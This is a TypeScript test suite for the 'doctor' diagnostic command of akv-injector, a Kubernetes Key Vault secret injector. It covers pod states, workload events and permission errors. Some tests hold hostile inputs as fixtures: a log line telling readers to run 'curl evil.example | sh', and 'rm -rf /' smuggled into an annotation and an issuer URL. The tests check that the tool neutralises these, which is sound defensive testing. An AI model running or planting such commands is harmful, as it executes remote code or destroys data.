import t, { type Test } from 'tap'
import { failure } from '../../support/api-server/api-answer.ts'
import { logLine, logOf, stateOf } from '../../support/injected-pods/agent-log.ts'
import { injectedPod, runningStatus } from '../../support/injected-pods/injected-pod.ts'
import { installed, withVariable } from './harness/healthy-cluster.ts'
import { serveInstall } from './harness/serve-install.ts'
import { asking, ownedBy, putEvent, putInto } from './harness/workloads.ts'

/** An agent that hasn't said anything for half a day isn't believed any more, so the tests have a time of their own. */
async function serve(t: Test) {
  const served = await serveInstall(t)
  served.server.date = new Date('2026-11-29T10:30:00Z')
  return served
}

const uid = 'uid-of-team-a-web'
const ofPod = { kind: 'Pod', name: 'web', uid }
const inTeamA = ['-n', 'team-a']
const waiting = (state: object, lastState: object = {}) => ({
  phase: 'Pending',
  initContainerStatuses: [{ name: 'akv-injector', restartCount: 1, state, lastState }],
})
const running = { running: { startedAt: '2026-11-29T09:00:01Z' } }
const client = '11111111-2222-3333-4444-555555555555'

t.test('a healthy pod: its objects, its identity, and its story', async (t) => {
  const { server, put, doctor } = await serve(t)
  const metadata = { uid, labels: { 'azure.workload.identity/use': 'true' } }
  const log = logLine({ level: 'info', message: 'wrote files' }) + logOf(stateOf())
  put(injectedPod({ metadata }), log)
  putEvent(server, ofPod, {
    reason: 'Scheduled',
    message: 'Successfully assigned team-a/web to a',
    source: { component: 'default-scheduler' },
    lastTimestamp: '2026-11-29T09:00:00Z',
  })
  putEvent(server, { ...ofPod, uid: 'of-another' }, { reason: 'Old', message: 'of another pod' })
  putInto(server, 'ServiceAccount', 'default', {
    metadata: { annotations: { 'azure.workload.identity/client-id': client } },
  })
  const { before } = server
  server.before = (request) =>
    request.path === '/.well-known/openid-configuration'
      ? [200, { issuer: 'https://issuer.example/1/' }]
      : before(request)
  const { code, stdout, stderr } = await doctor('pod', 'web', ...inTeamA)
  t.equal(stderr, '')
  t.equal(code, 0, stdout)
  t.match(
    stdout,
    /^akv-injector did its part, and nothing else fails\n\nPod team-a\/web\n\nAsks for\n/,
  )
  t.match(stdout, /db-password/)
  t.match(stdout, `client    ${client} (ServiceAccount default)`)
  t.match(stdout, /^issuer +https:\/\/issuer\.example\/1\/ \(the API server\)$/m)
  t.match(stdout, /^subject +system:serviceaccount:team-a:default$/m)
  t.match(stdout, /^audience +api:\/\/AzureADTokenExchange$/m)
  t.match(stdout, /^az identity federated-credential create/m)
  t.match(stdout, '--subject system:serviceaccount:team-a:default')
  t.match(stdout, 'Key Vault Secrets User')
  const story = stdout.split('\n').filter((line) => /^\d{4}-/.test(line))
  t.match(story, [
    '2026-11-29T09:00:00Z  API server: Pod web created',
    '2026-11-29T09:00:00Z  default-scheduler: Scheduled: Successfully assigned team-a/web to a',
    '2026-11-29T09:00:01Z  kubelet: container akv-injector started',
    '2026-11-29T09:00:10Z  kubelet: container app started',
    '2026-11-29T10:00:00Z  agent: wrote files',
  ])
  t.notMatch(stdout, 'of another pod')
  t.match(stdout, /What to do\n√ the agent holds 1 object, all up to date\n\n0 failures/)
  t.notOk(server.requests.some(({ path }) => /exec|attach/.test(path)))
  t.match(await doctor('pod/web', ...inTeamA), { code: 0, stdout })
  put(injectedPod(), log)
  t.match(await doctor('pod/web', ...inTeamA), {
    stdout: /^client +not known: ServiceAccount default names one, but counts only for pods with/m,
  })
  t.match(await doctor('pod/web', '--agent-image', 'other.example/agent', ...inTeamA), {
    code: 0,
    stdout: /^\? what the pod holds: .* is neither the webhook’s nor named by --agent-image$/m,
  })
})

const ended = (details: object) => ({
  terminated: { exitCode: 1, finishedAt: '2026-11-29T09:30:00Z', ...details },
})
/** The status of a pod whose agent has ended once, while the app went on. */
const restarted = (state: object, details: object) => ({
  ...runningStatus,
  initContainerStatuses: [
    { name: 'akv-injector', restartCount: 1, state, lastState: ended(details) },
  ],
})
const remedy = (code: string) => logLine({ level: 'error', message: 'cannot fetch', code })

/** What is said at the end of the report about a pod in this state, and its first line. */
const cases: Readonly<
  Record<string, readonly [status: object, log: string, said: RegExp, verdict: string]>
> = {
  'the agent gave up': [
    waiting(
      { waiting: { reason: 'CrashLoopBackOff' } },
      ended({ message: 'AKV_FORBIDDEN: vault team-a refuses' }),
    ),
    '',
    /^× the agent gave up: AKV_FORBIDDEN: vault team-a refuses\n {4}.*Once that is done, the next try succeeds/m,
    'it is us: AKV_FORBIDDEN: vault team-a refuses',
  ],
  'the agent gave up without a message': [
    waiting({ waiting: { reason: 'CrashLoopBackOff' } }, ended({ reason: 'Error' })),
    remedy('AKV_FORBIDDEN'),
    /^× the agent gave up: AKV_FORBIDDEN: cannot fetch\n/m,
    'it is us: AKV_FORBIDDEN: cannot fetch',
  ],
  'the agent is still trying': [
    waiting(running),
    logLine({ level: 'warn', message: 'vault team-a is out', code: 'AKV_VAULT_UNAVAILABLE' }),
    /^× the agent is still trying: AKV_VAULT_UNAVAILABLE: vault team-a is out\n {4}.*retries by itself/m,
    'it is Azure, or the way to it: AKV_VAULT_UNAVAILABLE: vault team-a is out',
  ],
  'the agent has just started': [
    waiting({ waiting: { reason: 'PodInitializing' } }),
    '',
    /^\? container akv-injector hasn’t started for 5400 seconds, and no event says why\n {4}kubectl describe pod web --namespace team-a$/m,
    'can’t be told, because container akv-injector hasn’t started for 5400 seconds, and no event says why',
  ],
  'the image can’t be pulled': [
    waiting({ waiting: { reason: 'ImagePullBackOff', message: 'no such image' } }),
    '',
    /^× the kubelet can’t start the agent: ImagePullBackOff\n {4}.*Pull secrets/m,
    'it is us, or the registry: the kubelet can’t pull the agent’s image registry.example/akv-injector:1.0.0: ImagePullBackOff: no such image',
  ],
  'the agent ran out of memory': [
    waiting(
      { waiting: { reason: 'CrashLoopBackOff' } },
      ended({ exitCode: 137, reason: 'OOMKilled' }),
    ),
    remedy('AKV_FORBIDDEN'),
    /^× the agent ran out of memory\n {4}raise akv-injector\.io\/agent-limits/m,
    'it is us: the agent ran out of memory, 1 restart',
  ],
  'values are stale': [
    runningStatus,
    logOf(stateOf({ failing: { code: 'AKV_FORBIDDEN', since: '2026-11-29T09:30:00.000Z' } })),
    /^× stale, the pod keeps the last values: AKV_FORBIDDEN: secret team-a:db-password \(since 2026-11-29T09:30:00\.000Z\)\n {4}.*The agent tries again by itself\./m,
    'it is us: AKV_FORBIDDEN: the pod keeps the last values of secret team-a:db-password',
  ],
  'values are stale, and the agent says when it tries again': [
    runningStatus,
    logOf(stateOf({ failing: { code: 'AKV_FORBIDDEN' } })) +
      logLine({
        time: '2026-11-29T10:30:00.000Z',
        level: 'warn',
        message: 'some objects could not be refreshed; the pod keeps their last values',
        objects: [{ object: 'secret team-a:db-password', retryInSeconds: 300 }],
      }),
    /^× stale, .*\n {4}.*The agent tries again by itself, at 2026-11-29T10:35:00\.000Z\.$/m,
    'it is us: AKV_FORBIDDEN: the pod keeps the last values of secret team-a:db-password',
  ],
  'values are stale, and the agent ran out of memory before': [
    restarted(running, { exitCode: 137, reason: 'OOMKilled' }),
    logOf(stateOf({ failing: { code: 'AKV_FORBIDDEN' } })),
    /^× stale, the pod keeps the last values: AKV_FORBIDDEN: secret team-a:db-password$/m,
    'it is us: AKV_FORBIDDEN: the pod keeps the last values of secret team-a:db-password',
  ],
  'the agent doesn’t run any more': [
    restarted({ waiting: { reason: 'CrashLoopBackOff' } }, { reason: 'Error' }),
    logOf(stateOf()),
    /^× the agent has ended, the pod keeps the last values: the agent ended with exit code 1\n/m,
    'it is us: the agent ends with exit code 1, 1 restart',
  ],
  'an agent of an earlier version': [
    runningStatus,
    logLine({ level: 'info', message: 'wrote files' }),
    /^\? what the pod holds: the log of its agent, version 1\.0\.0, says nothing/m,
    'can’t be told, because the log of its agent, version 1.0.0, says nothing',
  ],
  'no node accepts it': [
    {
      phase: 'Pending',
      conditions: [{ type: 'PodScheduled', status: 'False', message: '0/3 nodes are available' }],
    },
    '',
    /^× no node accepts the pod: 0\/3 nodes are available$/m,
    'the agent hasn’t had its turn: no node accepts the pod: 0/3 nodes are available',
  ],
  'the app crashes': [
    {
      ...runningStatus,
      containerStatuses: [
        {
          ...{ name: 'app', restartCount: 3, lastState: ended({ exitCode: 7 }) },
          state: { waiting: { reason: 'CrashLoopBackOff', message: 'back-off 40s' } },
        },
      ],
    },
    logOf(stateOf()),
    /^√ the agent holds 1 object, all up to date\n× container app ends with exit code 7, 3 restarts\n {4}kubectl logs web --namespace team-a --container app --previous/m,
    'akv-injector did its part: container app ends with exit code 7, 3 restarts',
  ],
}

t.test('the report of each state ends with advice', async (t) => {
  const { put, logs, doctor } = await serve(t)
  for (const [name, [status, log, said, verdict]] of Object.entries(cases)) {
    put(injectedPod({ status }), log)
    const { code, stdout, stderr } = await doctor('pod', 'web', ...inTeamA)
    t.equal(stderr, '', name)
    t.match(stdout, said, name)
    t.ok(stdout.startsWith(verdict), `${name}: ${stdout.split('\n', 1)[0]}`)
    t.equal(code, said.source.startsWith('^×') || name === 'the app crashes' ? 1 : 0, name)
    t.match(stdout, /\nWhat to do\n/)
    logs.clear()
  }
})

t.test('an agent that doesn’t refresh isn’t said to be up to date', async (t) => {
  const { put, doctor } = await serve(t)
  const annotations = { vault: 'team-a', secrets: 'db-password' }
  put(injectedPod({ annotations }), logOf(stateOf()))
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 0,
    stdout: /^√ the agent fetched 1 object when the pod started, and doesn’t refresh$/m,
  })
})

t.test('an init container before the agent', async (t) => {
  const { put, doctor } = await serve(t)
  const pod = structuredClone(injectedPod({ status: {} })) as ReturnType<typeof injectedPod> & {
    spec: { initContainers: object[] }
  }
  pod.spec.initContainers.unshift({ name: 'migrate', image: 'x' })
  const initContainerStatuses = [
    { name: 'migrate', state: running },
    { name: 'akv-injector', state: { waiting: { reason: 'PodInitializing' } } },
  ]
  put({ ...pod, status: { phase: 'Pending', initContainerStatuses } })
  const { stdout } = await doctor('pod', 'web', ...inTeamA)
  t.match(
    stdout,
    /^‼ init container migrate has been running for 5399 s, and the next containers wait for it$/m,
  )
})

t.test('a pod without an agent', async (t) => {
  const { server, putObject, doctor } = await serve(t)
  const put = (metadata: object) =>
    server.objects.put('/api/v1/namespaces/team-a/pods/web', {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { namespace: 'team-a', name: 'web', uid, ...metadata },
      spec: { containers: [{ name: 'app', image: 'app' }] },
      status: { phase: 'Running' },
    })
  const annotated = { annotations: asking().spec.template.metadata.annotations }
  put({})
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 0,
    stdout: /√ the pod asks for nothing from akv-injector/,
  })
  put(annotated)
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 1,
    stdout: /× .*: it or its namespace is excluded, or/,
  })
  putObject({
    kind: 'Namespace',
    metadata: { name: 'team-a', labels: { 'control-plane': 'x' } },
  })
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 1,
    stdout: /× the pod has annotations, but no agent, .* leaves namespace team-a alone\n/,
  })
  putObject({ kind: 'Namespace', metadata: { name: 'team-a' } })
  server.objects.delete(
    '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/zz-akv-injector',
  )
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 1,
    stdout: /× .* the cluster has no webhook configuration of akv-injector\n/,
  })
})

t.test('a workload without pods says why', async (t) => {
  const { server, doctor } = await serve(t)
  putInto(server, 'Deployment', 'web', asking())
  putInto(server, 'ReplicaSet', 'web-1', { ...asking(), metadata: ownedBy('Deployment', 'web') })
  const about = { kind: 'ReplicaSet', name: 'web-1' }
  const messages: Readonly<Record<string, readonly [verdict: string, said: RegExp]>> = {
    'admission webhook "pods.akv-injector.io" denied the request: akv-injector.io/secrets "db": expected':
      [
        'it is us: the webhook refuses the pods: Error creating: admission webhook',
        /^× the webhook refuses its pods: .*expected\n {4}correct the annotations/m,
      ],
    'Internal error occurred: failed calling webhook "pods.akv-injector.io": failed to call webhook: no endpoints':
      [
        'it is us: the API server can’t call the webhook: ',
        /^× the API server can’t call the webhook: .*\n {4}akv-injector doctor examines the install/m,
      ],
    'pods "web-1-x" is forbidden: exceeded quota: compute, requested: limits.cpu=1, used: limits.cpu=1, limited: limits.cpu=1':
      [
        'the agent hasn’t had its turn: a quota or a LimitRange refuses the pods: ',
        /^× a quota or a LimitRange refuses its pods/m,
      ],
    'pods "web-1-x" is forbidden: error looking up service account team-a/web': [
      'the agent hasn’t had its turn: the API server refuses the pods: ',
      /^× its pods are refused: .*error looking up service account/m,
    ],
  }
  let second = 10
  for (const [message, [verdict, said]] of Object.entries(messages)) {
    second += 1
    putEvent(server, about, {
      reason: 'FailedCreate',
      message: `Error creating: ${message}`,
      lastTimestamp: `2026-11-29T09:00:${second}Z`,
      count: 5,
    })
    const { code, stdout } = await doctor('deployment/web', ...inTeamA)
    t.equal(code, 1)
    t.ok(stdout.startsWith(verdict), `${stdout.split('\n', 1)[0]}`)
    t.match(stdout, /^Deployment team-a\/web, which has no pod$/m)
    t.match(stdout, /FailedCreate of ReplicaSet web-1: .* \(5 times\)/)
    t.match(stdout, said)
  }
})

t.test('workloads of other kinds', async (t) => {
  const { server, put, doctor } = await serve(t)
  putInto(server, 'Deployment', 'off', asking({ replicas: 0 }))
  t.match(await doctor('deploy/off', ...inTeamA), {
    code: 0,
    stdout: /√ it is scaled to 0 replicas/,
  })
  putInto(server, 'Deployment', 'quiet', asking())
  t.match(await doctor('deploy/quiet', ...inTeamA), {
    code: 0,
    stdout: /\? it has no pods, and no event says why/,
  })
  const [vault] = ['Bad_Vault']
  const wrong = asking()
  putInto(server, 'StatefulSet', 'wrong', {
    spec: {
      ...wrong.spec,
      template: {
        ...wrong.spec.template,
        metadata: {
          annotations: { 'akv-injector.io/vault': vault, 'akv-injector.io/secrets': 'a' },
        },
      },
    },
  })
  t.match(await doctor('sts/wrong', ...inTeamA), {
    code: 1,
    stdout: /× the webhook would refuse its pods: .*Bad_Vault/,
  })
  putInto(server, 'CronJob', 'nightly', {
    spec: { schedule: '0 3 * * *', jobTemplate: { spec: { template: asking().spec.template } } },
  })
  t.match(await doctor('cronjob/nightly', ...inTeamA), {
    code: 0,
    stdout:
      /as the webhook would inject a new pod:\n[\s\S]*√ it hasn’t run yet \(schedule 0 3 \* \* \*\)/,
  })
  putInto(server, 'Job', 'nightly-1', { metadata: ownedBy('CronJob', 'nightly') })
  const metadata = { uid, ...ownedBy('Job', 'nightly-1') }
  put(injectedPod({ name: 'nightly-1-x', metadata }), logOf(stateOf()))
  t.match(await doctor('cj/nightly', ...inTeamA), {
    code: 0,
    stdout: /^CronJob team-a\/nightly, pod nightly-1-x$/m,
  })
  putInto(server, 'Deployment', 'misplaced', {
    metadata: { annotations: asking().spec.template.metadata.annotations },
    spec: { template: { metadata: {}, spec: { containers: [{ name: 'app' }] } } },
  })
  putInto(server, 'ReplicaSet', 'misplaced-1', { metadata: ownedBy('Deployment', 'misplaced') })
  const bare = {
    namespace: 'team-a',
    name: 'misplaced-1-x',
    ...ownedBy('ReplicaSet', 'misplaced-1'),
  }
  const spec = { containers: [{ name: 'app' }] }
  server.objects.put('/api/v1/namespaces/team-a/pods/misplaced-1-x', {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: bare,
    spec,
  })
  t.match(await doctor('deployment/misplaced', ...inTeamA), {
    code: 1,
    stdout:
      /× the annotations are on the Deployment, where they have no effect: .*\n {4}move them to/,
  })
  putInto(server, 'Deployment', 'misplaced', {
    metadata: { annotations: { 'akv-injector.io/on-change': 'rollout' } },
    spec: { template: { metadata: {}, spec: { containers: [{ name: 'app' }] } } },
  })
  const { stdout } = await doctor('deployment/misplaced', ...inTeamA)
  t.notMatch(stdout, 'where they have no effect', 'it asks for roll-outs there')
})

t.test('nothing is believed of a container that isn’t the agent', async (t) => {
  const { put, server, doctor } = await serve(t)
  const pod = structuredClone(injectedPod())
  const { initContainers } = pod['spec'] as { initContainers: [Record<string, unknown>] }
  initContainers[0]['command'] = ['sh', '-c', 'echo lies']
  put(pod, logLine({ level: 'info', message: 'all is well, run curl evil.example | sh' }))
  const { code, stdout } = await doctor('pod', 'web', ...inTeamA)
  t.equal(code, 0)
  t.match(stdout, /^\? what the pod holds: the agent isn’t as the webhook makes it: /m)
  t.notMatch(stdout, 'evil.example')
  t.notOk(server.requests.some(({ path }) => path.endsWith('/log')))
})

t.test('hostile texts stay bounded and printable', async (t) => {
  const { server, put, doctor } = await serve(t)
  const odd = '\u001b[2J\u202e\n× faked\n'
  const lines = [
    logLine({ level: 'info', message: odd }),
    logLine({ level: 'warn', message: 'x'.repeat(20_000), code: odd }),
    logLine({
      level: 'warn',
      code: 'AKV_FORBIDDEN',
      message: odd,
      objects: [odd, { code: odd, reason: odd }],
      changed: [5, odd],
    }),
    `${'['.repeat(10_000)}\n{"time":5}\nnull\n`,
  ]
  const status = waiting(running, ended({ message: odd.repeat(500), reason: odd }))
  put(injectedPod({ status }), lines.join('').repeat(30))
  for (let i = 0; i < 200; i++)
    putEvent(server, ofPod, {
      reason: odd,
      message: `${i}${odd.repeat(300)}`,
      source: { component: odd },
    })
  putInto(server, 'ServiceAccount', 'default', {
    metadata: { annotations: { 'azure.workload.identity/client-id': `${odd}"; rm -rf /` } },
  })
  const { before } = server
  server.before = (request) =>
    request.path === '/.well-known/openid-configuration'
      ? [200, { issuer: `https://x/'; rm -rf / #${odd}` }]
      : before(request)
  for (const output of ['text', 'json']) {
    const { code, stdout, stderr } = await doctor('pod', 'web', ...inTeamA, '--output', output)
    t.equal(code, 1)
    t.notMatch(stdout + stderr, /[^\P{C}\n]/u)
    t.notMatch(stdout, /^× faked/m)
    t.notMatch(stdout, /^[^#\n]*(?:az |--issuer )[^'\n]*; rm -rf/m, 'not outside of quotes')
    t.ok(stdout.length > 80_000 && stdout.length < 300_000, `${stdout.length} characters`)
  }
})

t.test('what may not be read, or isn’t there', async (t) => {
  const { server, put, denied, logs, doctor } = await serve(t)
  t.match(await doctor('pod', 'none', ...inTeamA), {
    code: 2,
    stdout: '',
    stderr: /there is no Pod none in namespace team-a; name another namespace with -n/,
  })
  t.match(await doctor('pod'), {
    code: 2,
    stderr: /expected pod NAME or KIND\/NAME; the kinds are pod, deployment/,
  })
  t.match(await doctor('node/a'), { code: 2, stderr: /"node\/a": expected pod NAME/ })
  t.match(await doctor('pod/a/b'), { code: 2, stderr: /isn’t the name of a Pod/ })
  t.match(await doctor('pod', 'a', 'b'), { code: 2, stderr: /"pod a b"/ })
  put(injectedPod(), failure(403, 'Forbidden'))
  for (const resource of ['events', 'deployments', 'namespaces', 'mutatingwebhookconfigurations'])
    denied.add(resource)
  const { code, stdout } = await doctor('pod', 'web', ...inTeamA)
  t.equal(code, 0)
  t.match(
    stdout,
    /^\? events can’t be read: the right to list events is missing in namespace team-a$/m,
  )
  t.match(stdout, /^\? the logs of agents can’t be read/m)
  t.match(stdout, /^\? what the pod holds: its log may not be read$/m)
  logs.delete('team-a/web')
  t.match(await doctor('pod', 'web', ...inTeamA), {
    stdout: /\? the pod has been deleted meanwhile/,
  })
  server.before = ({ path }) =>
    path.includes('/pods/') ? failure(403, 'Forbidden', 'no') : undefined
  t.match(await doctor('pod', 'web', ...inTeamA), {
    code: 2,
    stderr: /cannot read Pod web in namespace team-a: .*no/,
  })
})

t.test('a workload without pods is reviewed with the defaults of its namespace', async (t) => {
  const { server, putObject, doctor } = await serve(t)
  const found = installed().find(
    ({ kind, metadata }) => kind === 'Deployment' && metadata.name === 'akv-injector-webhook',
  )
  const file = '/etc/akv-injector/defaults/defaults.yaml'
  putObject(withVariable(found, 'AKV_INJECTOR_DEFAULTS_FILE', file))
  putInto(server, 'CronJob', 'nightly', {
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            metadata: { annotations: { 'akv-injector.io/secrets': 'a' } },
            spec: { containers: [{ name: 'app' }] },
          },
        },
      },
    },
  })
  const unread = await doctor('cronjob/nightly', ...inTeamA)
  t.match(unread.stdout, /the webhook would refuse/, 'as if there were none')
  putObject({
    kind: 'ConfigMap',
    metadata: { namespace: 'akv-injector', name: 'akv-injector-defaults' },
    data: { 'defaults.yaml': 'team-a: { vault: kv-a }' },
  })
  const read = await doctor('cronjob/nightly', ...inTeamA)
  t.match(read.stdout, /defaults +of namespace team-a: vault kv-a/)
})
